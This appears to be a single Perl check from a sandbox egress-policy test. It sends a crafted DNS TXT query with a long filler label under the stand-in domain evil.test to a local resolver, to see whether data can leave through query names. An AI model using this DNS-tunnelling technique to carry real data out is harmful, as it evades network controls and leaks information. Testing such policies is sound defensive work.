# tries: carry data out in the names that it asks for
# because: the resolver asks outside only for names that the policy could allow
use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "10.0.2.3:53", Proto => "udp") or refused("$!");
my $label = "x" x 60; my $question = pack("n6", 7, 0x100, 1, 0, 0, 0) . "\x3c$label\x04evil\x04test\0" . pack("n2", 16, 1); send($s, $question, 0) or refused("$!");
my $in = ""; vec($in, fileno($s), 1) = 1; select($in, undef, undef, 5) or held("no answer"); recv($s, my $got, 512, 0) or refused("$!"); my (undef, $flags, undef, $answers) = unpack "n4", $got; succeeded("answers: $answers") if $answers; refused("code ", $flags & 15);
